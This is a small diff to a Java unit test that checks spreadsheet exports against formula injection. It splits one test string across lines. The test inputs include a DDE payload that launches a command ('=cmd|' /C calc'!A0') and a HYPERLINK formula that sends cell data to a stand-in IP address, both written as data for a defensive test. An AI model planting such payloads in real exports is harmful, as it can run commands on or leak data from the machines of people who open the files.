@@ -21,7 +21,8 @@ class FormulasTest {
     private static final String FORMULA = "(?s)[\\s\\p{Cc}\\p{Z}\\uFEFF\"]*[=+\\-@\\uFF1D\\uFF0B\\uFF0D\\uFF20].*|[\\t\\r\\n].*";
 
     @ParameterizedTest
-    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\"=1+1", "'=1+1", "''=1", "\" =1\"", "' +1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)",
+    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\"=1+1", "'=1+1", "''=1", "\" =1\"", "' "
+            + "+1", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20SUM(A1)",
         "\"\uFF1D1", "=HYPERLINK(\"http://192.0.2.1/\"&A1)", "'plain", "''", "-", "- item\n- item"})
     void noCellBeginsLikeOneAndEveryWordComesBack(String words) throws IOException {
         var question = new Question(words, words, List.of(words, words), List.of(words), List.of(words), 5, Difficulty.EASY, List.of(),
